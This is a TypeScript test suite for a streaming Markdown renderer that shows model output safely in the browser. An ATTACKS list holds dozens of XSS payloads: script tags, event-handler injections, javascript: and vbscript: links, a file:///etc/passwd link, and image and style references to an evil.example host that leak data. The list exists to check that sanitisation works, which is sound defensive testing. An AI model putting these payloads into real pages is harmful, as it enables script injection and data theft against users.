import { describe, expect, it } from "vitest";
import { safeUrl } from "../src/markdown/dom";
import { MarkdownStream } from "../src/markdown/stream";

function whole(text: string): HTMLElement {
  const root = document.createElement("div");
  new MarkdownStream(root).show(text, true);
  return root;
}

function growing(text: string): HTMLElement {
  const root = document.createElement("div");
  new MarkdownStream(root).show(text, false);
  return root;
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <img src=x onerror=alert(1)> text",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](/lab/tree/secret.ipynb)",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "![x](https://evil.example/leak.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  '![x](data:image/png;base64,AA"onerror="alert(1))',
  "![x][r]\n\n[r]: https://evil.example/leak.png",
  "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
  '```js"onmouseover="alert(1)\nx\n```',
  "`<img src=x onerror=alert(1)>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <img src=x onerror=alert(1)>",
  "- <img src=x onerror=alert(1)>",
  "> <script>alert(1)</script>",
  "<style>@import 'https://evil.example'</style>",
  "<details open ontoggle=alert(1)>x</details>",
  "<!-- --!><img src=x onerror=alert(1)>",
  "[<img src=x onerror=alert(1)>](https://good.example)",
  '[x](https://good.example "onmouseover=alert(1)")',
  "https://good.example/<script>",
  "**<b onclick=alert(1)>**",
];

const ALLOWED = new Set(
  "P DIV SPAN STRONG EM DEL CODE PRE BR HR A UL OL LI INPUT TABLE THEAD TBODY TR TH TD BLOCKQUOTE BUTTON IMG".split(
    " ",
  ),
);
const ATTRIBUTES = new Set(
  "class href target rel role aria-level dir tabindex type data-copy checked disabled start style src alt title data-language data-math aria-label".split(
    " ",
  ),
);

function check(root: HTMLElement): void {
  for (const element of root.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName);
    for (const { name } of element.attributes) expect(ATTRIBUTES).toContain(name);
    if (element instanceof HTMLAnchorElement) {
      expect(element.protocol).toMatch(/^(https?|mailto):$/);
      expect(element.rel).toBe("noopener noreferrer");
      expect(element.target).toBe("_blank");
    }
    if (element instanceof HTMLImageElement) expect(element.src).toMatch(/^data:image\/png;base64,/);
  }
}

describe("what a model writes is never more than text", () => {
  it.each(ATTACKS)("%s", (attack) => {
    check(whole(attack));
    const root = document.createElement("div");
    const stream = new MarkdownStream(root);
    for (let length = 1; length <= attack.length; length += 1) {
      stream.show(attack.slice(0, length), false);
      check(root);
    }
  });

  it("raw HTML is shown as it was written", () => {
    expect(whole("a <b>bold</b> word").textContent).toBe("a <b>bold</b> word");
    expect(whole("<div>\n  <p>x</p>\n</div>").textContent).toBe("<div>\n  <p>x</p>\n</div>");
  });

  it("a picture from the network becomes a link, one that comes along is shown", () => {
    const remote = whole("![cat](https://example.org/cat.png)");
    expect(remote.querySelector("img")).toBeNull();
    expect(remote.querySelector("a")?.textContent).toBe("cat");
    expect(whole("![dot](data:image/png;base64,iVBORw0KGgo=)").querySelector("img")?.alt).toBe("dot");
  });

  it("only addresses of the web and of mail are links", () => {
    expect(safeUrl("https://example.org/a?b=c")).toBe("https://example.org/a?b=c");
    expect(safeUrl("mailto:a@example.org")).toBe("mailto:a@example.org");
    expect([safeUrl("ftp://example.org"), safeUrl("//example.org"), safeUrl("#x"), safeUrl("")]).toEqual([
      null,
      null,
      null,
      null,
    ]);
  });
});

describe("what it makes of Markdown", () => {
  it("text, lists, tables, code", () => {
    const root = whole(
      "# Title\n\nSome *soft* and **loud** `code`, a ~~slip~~ &amp; [link](https://example.org).\n\n" +
        "3. three\n4. four\n   - [x] done\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n> said\n\n---\n",
    );
    expect(root.querySelector('[role="heading"]')?.textContent).toBe("Title");
    expect(root.querySelector("p")?.textContent).toBe("Some soft and loud code, a slip & link.");
    expect(root.querySelector("ol")?.start).toBe(3);
    expect(root.querySelector<HTMLInputElement>("ol ul input")?.checked).toBe(true);
    expect(root.querySelectorAll("td")[1]?.style.textAlign).toBe("right");
    expect(root.querySelector("blockquote")?.textContent).toBe("said");
    expect(root.querySelector("hr")).not.toBeNull();
  });

  it("a closed fence has a button, one that is open has not", () => {
    const closed = whole("```python\ndef f(x):\n    return '<b>'\n```");
    expect(closed.querySelector("code")?.textContent).toBe("def f(x):\n    return '<b>'");
    expect(closed.querySelector<HTMLButtonElement>("button")?.dataset.copy).toBe("def f(x):\n    return '<b>'");
    const open = whole("```python\ndef f(x):");
    expect(open.querySelector("code")?.textContent).toBe("def f(x):");
    expect(open.querySelector("button")).toBeNull();
  });
});

const DOCUMENTS = [
  "Two columns stand out. **fare** has a maximum of 512.3; `age` has a few.\n\n```python\nq1, q3 = df.fare.quantile([.25, .75])\n\ndf[df.fare > q3]\n```\n\nDone.",
  "1. one\n2. two\n   - nested\n   - more\n\n     a paragraph within\n3. three\n\n- other\n- list\n\n* and another\n\nEnd",
  "# One\nText right after\n## Two\n\nSetext\n===\n\nanother\n---\ntext\n\n***\n\nEnd.",
  "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter the table\n\n> quote\nlazy\n>\n> - list in it\n>   ```\n>   code\n>   ```\n\nend",
  "- a\n\n  b\n\n- c\n\n      code in item\n\nnot in it\n\n    indented code\n\n    goes on\n\ntext",
  "para\n<div>\nraw *html*\n</div>\n\n<!-- comment\n\nover lines -->\n\ntext `a\nb` end  \nhard break\\\nanother",
  "Use [the docs][d] and [d] for more.\n\nA second paragraph with [d].\n\n- item with [d]\n\n[d]: https://example.org/docs\n\nEnd.",
  "~~~~js\nlet a = `x`;\n~~~\nstill\n~~~~\n\n```\nno language\n\n\nblank lines\n```\ntext\r\nwindows\r\n\r\nlines\r\n",
  "1. a\n\n   ```bash\n   pip install x\n   ```\n\n2. b\n\n2\n\n3. c\n- d\n+ e\n",
  "$$\nx = \\frac{1}{2}\n$$\n\nEmoji 🌍 and עברית and [broken](http:// and **unclosed and `tick\n\n* * *\n\n*a* **b** ***c*** _d_ __e__",
  "\n\n\nleading blank lines\n\n\n\nand many between\n\n\n",
];

/** The same numbers each time. */
function randomness(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

function cuts(text: string, random: () => number, longest: number): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    at = Math.min(text.length, at + 1 + Math.floor(random() * longest));
    pieces.push(text.slice(0, at));
  }
  return pieces;
}

describe("however a text is cut, it ends as the whole", () => {
  const random = randomness(7);
  const mixed = Array.from({ length: 40 }, () => {
    const lines = DOCUMENTS.flatMap((text) => text.split(/(?<=\n)/));
    return Array.from({ length: 12 }, () => lines[Math.floor(random() * lines.length)] ?? "").join("");
  });

  it.each([...DOCUMENTS, ...mixed])("%j", (text) => {
    const expected = whole(text).innerHTML;
    for (const longest of [1, 5, 40, 200]) {
      const root = document.createElement("div");
      const stream = new MarkdownStream(root);
      for (const piece of cuts(text, random, longest)) stream.show(piece, false);
      stream.show(text, true);
      expect(root.innerHTML).toBe(expected);
    }
  });

  it("and without references it is the same at every moment in between", () => {
    for (const text of [...DOCUMENTS, ...mixed].filter((each) => !each.includes("]:"))) {
      const root = document.createElement("div");
      const stream = new MarkdownStream(root);
      for (const piece of cuts(text, random, 7)) {
        stream.show(piece, false);
        expect(root.innerHTML).toBe(growing(piece).innerHTML);
      }
    }
  });
});

it("finished blocks stay the elements they are", () => {
  const root = document.createElement("div");
  const stream = new MarkdownStream(root);
  stream.show("first\n\nsecond", false);
  stream.show("first\n\nsecond line\n\n", false);
  const first = root.firstChild;
  stream.show("first\n\nsecond line\n\nthird\n\nfourth", false);
  expect(root.firstChild).toBe(first);
  expect(root.textContent).toBe("firstsecond linethirdfourth");
});

it("draws at most the last block again: the work of a long answer does not grow with its length", () => {
  const root = document.createElement("div");
  const stream = new MarkdownStream(root);
  let made = 0;
  const create = document.createElement.bind(document);
  document.createElement = ((name: string) => {
    made += 1;
    return create(name);
  }) as typeof document.createElement;
  try {
    let text = "";
    for (let paragraph = 0; paragraph < 300; paragraph += 1) {
      text += `Paragraph ${paragraph} has a few *words*.\n\n`;
      stream.show(text, false);
    }
  } finally {
    document.createElement = create;
  }
  expect(root.children).toHaveLength(300);
  expect(made).toBeLessThan(300 * 6);
});
